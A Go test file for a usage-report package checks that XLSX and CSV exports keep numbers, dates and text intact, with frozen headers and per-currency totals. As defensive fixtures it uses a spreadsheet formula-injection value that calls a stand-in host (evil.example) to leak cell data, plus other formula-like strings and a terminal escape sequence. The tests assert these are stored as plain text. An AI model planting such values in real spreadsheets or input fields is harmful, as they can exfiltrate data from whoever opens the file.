package report_test

import (
	"archive/zip"
	"bytes"
	"context"
	"errors"
	"io"
	"net/http"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"github.com/exopartner/exopartner/wrapper"
	"github.com/exopartner/exopartner/wrapper/partnertest"
	"github.com/exopartner/exopartner/wrapper/report"
)

// openXLSX writes r as a workbook and opens it again with excelize.
func openXLSX(t *testing.T, r *report.Report) *excelize.File {
	t.Helper()
	var b bytes.Buffer
	if err := report.WriteXLSX(&b, r); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(&b)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { f.Close() })
	return f
}

// usageSheetXML is the XML of the Usage sheet of r's workbook, as written.
func usageSheetXML(t *testing.T, r *report.Report) string {
	t.Helper()
	var b bytes.Buffer
	if err := report.WriteXLSX(&b, r); err != nil {
		t.Fatal(err)
	}
	z, err := zip.NewReader(bytes.NewReader(b.Bytes()), int64(b.Len()))
	if err != nil {
		t.Fatal(err)
	}
	rc, err := z.Open("xl/worksheets/sheet1.xml")
	if err != nil {
		t.Fatal(err)
	}
	defer rc.Close()
	data, err := io.ReadAll(rc)
	if err != nil {
		t.Fatal(err)
	}
	return string(data)
}

// raw is a cell's stored value, unformatted.
func raw(t *testing.T, f *excelize.File, sheet, cell string) string {
	t.Helper()
	v, err := f.GetCellValue(sheet, cell, excelize.Options{RawCellValue: true})
	if err != nil {
		t.Fatal(err)
	}
	return v
}

// TestWriteXLSX: the workbook read back has the rows with numbers as
// numbers (exact), dates as dates, text as strings (never formulas, the
// API's text unchanged), a frozen header on each sheet, and the totals per
// currency with the discrepancies and the organizations not read.
func TestWriteXLSX(t *testing.T) {
	t.Parallel()
	srv, c := start(t)
	ctx := context.Background()
	hyperlink := `=HYPERLINK("http://evil.example/?leak="&A1,"x")`
	other := srv.AddOrganizations(2) // other[0]'s statements do not reconcile, other[1] cannot be read
	injectStatements(srv, unreconciledStatements)
	srv.InjectFault(opUsage, 1, partnertest.Fault{Status: http.StatusNotFound})
	org := srv.Seed(wrapper.Organization{Status: wrapper.StatusActive, ClientID: hyperlink,
		BillingAddress: wrapper.BillingAddress{Name: "Zürcher Kantonalbank @SUM(1+1)", StreetName: "Main", City: "Zürich", PostalCode: "8001", Country: "CH"}})
	if err := c.ApplyMetering(ctx, org.ID, []wrapper.UsageRecord{{Product: "=1+1", Variable: "-2+3", Quantity: -42.00005}, {Product: unitProduct, Variable: "v", Quantity: 3.1415}}); err != nil {
		t.Fatal(err)
	}
	r, err := report.Build(ctx, c, wrapper.PeriodOf(now), report.Options{Concurrency: 1})
	if err != nil {
		t.Fatal(err)
	}
	if len(r.Failed) != 1 || len(r.Discrepancies) != 2 || len(r.Rows) != 5 {
		t.Fatalf("fixture: %d failed, %d discrepancies, %d rows", len(r.Failed), len(r.Discrepancies), len(r.Rows))
	}
	f := openXLSX(t, r)
	if got := f.GetSheetList(); !slices.Equal(got, []string{report.SheetUsage, report.SheetTotals}) {
		t.Fatalf("sheets %q", got)
	}
	last, _ := excelize.CoordinatesToCellName(len(report.Columns()), len(r.Rows)+1, true)
	if sheet := usageSheetXML(t, r); !strings.Contains(sheet, `<autoFilter ref="$A$1:`+last+`"`) {
		t.Errorf("the Usage sheet has no filter over $A$1:%s", last)
	}

	rows, err := f.GetRows(report.SheetUsage, excelize.Options{RawCellValue: true})
	if err != nil {
		t.Fatal(err)
	}
	if !slices.Equal(rows[0], report.Columns()) || len(rows) != len(r.Rows)+1 {
		t.Fatalf("Usage: header %q, %d rows; want %q and %d rows", rows[0], len(rows)-1, report.Columns(), len(r.Rows))
	}
	col := func(name string) int { return slices.Index(report.Columns(), name) + 1 }
	cellName := func(name string, row int) string { s, _ := excelize.CoordinatesToCellName(col(name), row); return s }
	for i, row := range r.Rows {
		n := i + 2
		cells := row.Cells()
		for j, c := range cells {
			name := report.Columns()[j]
			cell := cellName(name, n)
			typ, err := f.GetCellType(report.SheetUsage, cell)
			if err != nil {
				t.Fatal(err)
			}
			formula, _ := f.GetCellFormula(report.SheetUsage, cell)
			if formula != "" {
				t.Errorf("%s: a formula %q", cell, formula)
			}
			v := raw(t, f, report.SheetUsage, cell)
			switch {
			case c.Number:
				got, err := strconv.ParseFloat(v, 64)
				if want, _ := strconv.ParseFloat(c.Text, 64); err != nil || got != want || typ == excelize.CellTypeInlineString || typ == excelize.CellTypeSharedString {
					t.Errorf("%s (%s): %q of type %v, want the number %s", cell, name, v, typ, c.Text)
				}
			case c.Date && c.Text == "":
				if v != "" {
					t.Errorf("%s (%s): %q, want an empty cell for a date the API did not send", cell, name, v)
				}
			case c.Date:
				serial, err := strconv.ParseFloat(v, 64)
				got, _ := excelize.ExcelDateToTime(serial, false)
				want, _ := time.Parse(time.RFC3339, c.Text)
				if err != nil || !got.Equal(want) {
					t.Errorf("%s (%s): %q (%v), want the date %s", cell, name, v, got, c.Text)
				}
				if shown, _ := f.GetCellValue(report.SheetUsage, cell); shown != want.Format("2006-01-02 15:04") {
					t.Errorf("%s (%s) shows %q, want %s", cell, name, shown, want.Format("2006-01-02 15:04"))
				}
			default:
				if v != c.Text || typ != excelize.CellTypeInlineString && c.Text != "" {
					t.Errorf("%s (%s): %q of type %v, want the string %q", cell, name, v, typ, c.Text)
				}
			}
		}
	}
	if v := raw(t, f, report.SheetUsage, cellName("client-id", 5)); v != hyperlink {
		t.Errorf("client-id %q, want the API's text %q", v, hyperlink)
	}
	if shown, _ := f.GetCellValue(report.SheetUsage, cellName("total-excl-vat", 5)); !strings.HasPrefix(shown, "-") || !strings.Contains(shown, ".") {
		t.Errorf("an amount shows %q", shown)
	}

	for _, sheet := range []string{report.SheetUsage, report.SheetTotals} {
		p, err := f.GetPanes(sheet)
		if err != nil || !p.Freeze || p.YSplit != 1 || p.XSplit != 0 || p.TopLeftCell != "A2" {
			t.Errorf("%s: panes %+v, %v; want the first row frozen", sheet, p, err)
		}
	}

	totals, err := f.GetRows(report.SheetTotals, excelize.Options{RawCellValue: true})
	if err != nil {
		t.Fatal(err)
	}
	period := r.Period.String()
	want := [][]string{
		{"period", "currency", "total-excl-vat", "total-incl-vat"},
		{period, "CHF", r.Totals[0].TotalExclVAT.String(), r.Totals[0].TotalInclVAT.String()},
		{period, "EUR", "5", "5.4"},
		nil,
		{"Discrepancies: 2 statement(s) whose lines do not add up to their own totals (the totals above are the statements', what Exoscale bills)"},
		{"organization", "client-id", "code", "currency", "lines", "total-excl-vat", "total-incl-vat", "lines-excl-vat", "lines-incl-vat"},
		{other[0].String(), "seed-1", "S-A1", "CHF", "3", "10", "10.81", "9.99", "10.8"},
		{other[0].String(), "seed-1", "S-A2", "EUR", "0", "5", "5.4", "0", "0"},
		nil,
		{"Not read: the usage of 1 of 3 organization(s) could not be read; their rows are missing"},
		{"organization", "client-id", "error"},
		{other[1].String(), "seed-2", r.Failed[0].Err.Error()},
	}
	if len(totals) != len(want) {
		t.Fatalf("Totals: %q\nwant %q", totals, want)
	}
	for i := range want {
		if !slices.Equal(totals[i], want[i]) {
			t.Errorf("Totals row %d: %q, want %q", i+1, totals[i], want[i])
		}
	}
	if shown, _ := f.GetCellValue(report.SheetTotals, "C3"); shown != "5.00" {
		t.Errorf("Totals C3 shows %q, want 5.00", shown)
	}
}

// TestWriteXLSXEmpty: a report without rows is a workbook with a header
// and no totals.
func TestWriteXLSXEmpty(t *testing.T) {
	t.Parallel()
	f := openXLSX(t, &report.Report{Period: wrapper.NewPeriod(2025, time.March)})
	rows, err := f.GetRows(report.SheetUsage)
	if err != nil || len(rows) != 1 || !slices.Equal(rows[0], report.Columns()) {
		t.Errorf("Usage: %q, %v", rows, err)
	}
	if rows, err := f.GetRows(report.SheetTotals); err != nil || len(rows) != 1 {
		t.Errorf("Totals: %q, %v", rows, err)
	}
}

// TestWriteCSVWith: the separator and the byte order mark Excel needs in a
// German-speaking locale; the cells are WriteCSV's.
func TestWriteCSVWith(t *testing.T) {
	t.Parallel()
	srv, c := start(t)
	meter(t, c, srv, []float64{3.1415})
	r, err := report.Build(context.Background(), c, wrapper.PeriodOf(now), report.Options{})
	if err != nil {
		t.Fatal(err)
	}
	var plain, semi bytes.Buffer
	if err := report.WriteCSV(&plain, r); err != nil {
		t.Fatal(err)
	}
	if err := report.WriteCSVWith(&semi, r, report.CSVOptions{Comma: ';', BOM: true}); err != nil {
		t.Fatal(err)
	}
	if want := "\ufeff" + strings.ReplaceAll(plain.String(), ",", ";"); semi.String() != want {
		t.Errorf("got\n%q\nwant\n%q", semi.String(), want)
	}
	var b bytes.Buffer
	if err := report.WriteCSVWith(&b, r, report.CSVOptions{Comma: '|'}); err == nil || b.Len() != 0 {
		t.Errorf("separator |: %v, wrote %q", err, b.String())
	}
	if err := report.WriteCSVWith(&b, r, report.CSVOptions{Comma: '\t'}); err != nil || !strings.HasPrefix(b.String(), "organization\tclient-id\t") {
		t.Errorf("TAB: %v, %q", err, b.String())
	}
}

// A workbook's writer error is returned.
func TestWriteXLSXWriterError(t *testing.T) {
	t.Parallel()
	if err := report.WriteXLSX(failingWriter{}, &report.Report{}); !errors.Is(err, errWrite) {
		t.Errorf("got %v, want the writer's error", err)
	}
}

var errWrite = errors.New("disk full")

type failingWriter struct{}

func (failingWriter) Write([]byte) (int, error) { return 0, errWrite }

// TestWriteXLSXControlCharacters: text with characters a workbook's XML
// cannot hold shows them as the terminal does, not as U+FFFD; the rest of
// the text is kept.
func TestWriteXLSXControlCharacters(t *testing.T) {
	t.Parallel()
	f := openXLSX(t, &report.Report{Rows: []report.Row{{Name: "\x1b]0;pwned\x07 Evil AG", Product: "caf\xe9", Description: "two\nlines\tand a tab"}}})
	for cell, want := range map[string]string{"C2": `\x1b]0;pwned\a Evil AG`, "J2": `caf\xe9`, "L2": "two\nlines\tand a tab"} {
		if got := raw(t, f, report.SheetUsage, cell); got != want {
			t.Errorf("%s: %q, want %q", cell, got, want)
		}
	}
}
